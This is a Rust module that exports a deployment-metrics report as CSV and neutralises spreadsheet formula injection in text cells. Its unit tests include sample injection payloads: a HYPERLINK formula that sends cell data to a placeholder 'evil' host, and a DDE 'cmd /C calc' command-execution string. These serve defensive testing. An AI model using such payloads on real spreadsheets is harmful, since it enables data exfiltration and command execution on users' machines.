//! The report as CSV for spreadsheets: one row per team and per repository and
//! production environment (plus the organisation when the report is not limited to
//! a team), told apart by the `scope` column. Values are exact (seconds, fractions,
//! per day), an absent value is an empty cell; the columns are listed by
//! [`columns`] and documented in `docs/report.md`.
//!
//! Text cells stay inert in a spreadsheet: a cell that starts with a character a
//! spreadsheet reads as the start of a formula (`=`, `+`, `-`, `@`, tab, carriage
//! return; a team named `=HYPERLINK(...)`) gets a leading `'`, as OWASP's "CSV
//! Injection" guidance says. Number cells are written by this module and are plain
//! numbers (a negative change starts with `-` and stays a number).

use crate::dora::Stage;
use crate::report::model::{Metric, Report, ScopeKind, ScopeReport};
use crate::report::ReportError;

/// The header row.
pub fn columns() -> Vec<String> {
    let mut columns: Vec<String> = [
        "scope",
        "name",
        "team",
        "environment",
        "repositories",
        "period_start",
        "period_end",
        "window",
        "deployments",
        "failed_deployments",
        "rework_deployments",
        "incidents_open",
    ]
    .iter()
    .map(|c| (*c).to_owned())
    .collect();
    for metric in Metric::ALL {
        let key = metric.key();
        columns.push(metric.column().to_owned());
        if metric.has_level() {
            columns.push(format!("{key}_level"));
        }
        columns.push(format!("{key}_samples"));
        columns.push(format!("{key}_previous"));
        columns.push(format!("{key}_change"));
        columns.push(format!("{key}_direction"));
    }
    // Where lead time goes: empty where stages are not measured.
    for stage in Stage::ALL {
        columns.push(format!("{}_median_seconds", stage.label()));
        columns.push(format!("{}_samples", stage.label()));
    }
    columns
}

/// Renders `report` as CSV (RFC 4180, `\n` line ends, UTF-8).
pub fn render(report: &Report) -> Result<String, ReportError> {
    let error = |cause: String| ReportError::Render {
        format: "csv",
        cause,
    };
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    writer
        .write_record(columns())
        .map_err(|e| error(e.to_string()))?;
    let organisation = (report.summary.scope == ScopeKind::Organisation).then_some(&report.summary);
    for scope in organisation
        .into_iter()
        .chain(&report.teams)
        .chain(&report.repositories)
    {
        writer
            .write_record(row(report, scope))
            .map_err(|e| error(e.to_string()))?;
    }
    let bytes = writer
        .into_inner()
        .map_err(|e| error(e.error().to_string()))?;
    String::from_utf8(bytes).map_err(|e| error(e.to_string()))
}

/// The first characters that make a spreadsheet evaluate a cell (OWASP, "CSV
/// Injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell that a spreadsheet shows as text: prefixed with `'` when it would
/// start a formula.
pub(crate) fn inert(text: &str) -> String {
    if text.starts_with(FORMULA_STARTS) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

fn number(value: Option<f64>) -> String {
    value.map_or(String::new(), |v| v.to_string())
}

fn row(report: &Report, scope: &ScopeReport) -> Vec<String> {
    let mut row = vec![
        inert(scope.scope.as_str()),
        inert(&scope.name),
        inert(scope.team.as_deref().unwrap_or_default()),
        inert(scope.environment.as_deref().unwrap_or_default()),
        scope.repositories.map_or(String::new(), |n| n.to_string()),
        report.period.start.to_rfc3339(),
        report.period.end.to_rfc3339(),
        inert(&report.period.window),
        scope.deployments.to_string(),
        scope.failed_deployments.to_string(),
        scope.rework_deployments.to_string(),
        scope.incidents_open.to_string(),
    ];
    for (metric, value) in scope.metrics.iter() {
        row.push(number(value.value));
        if metric.has_level() {
            row.push(value.level.map_or(String::new(), |l| inert(l.name())));
        }
        row.push(value.samples.to_string());
        row.push(number(value.previous));
        row.push(number(value.change));
        row.push(value.direction.map_or(String::new(), |d| inert(d.as_str())));
    }
    match &scope.lead_time_stages {
        Some(stages) => {
            for stage in stages {
                row.push(number(stage.median_seconds));
                row.push(stage.samples.to_string());
            }
        }
        None => row.extend(std::iter::repeat_n(String::new(), 2 * Stage::ALL.len())),
    }
    row
}

#[cfg(test)]
mod tests {
    use super::inert;

    #[test]
    fn cells_that_would_start_a_formula_are_prefixed() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
                "'=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("payments", "payments"),
            ("a=b", "a=b"),
            ("'quoted", "'quoted"),
            ("", ""),
        ];
        for (cell, expected) in cases {
            assert_eq!(inert(cell), expected, "{cell:?}");
        }
    }
}
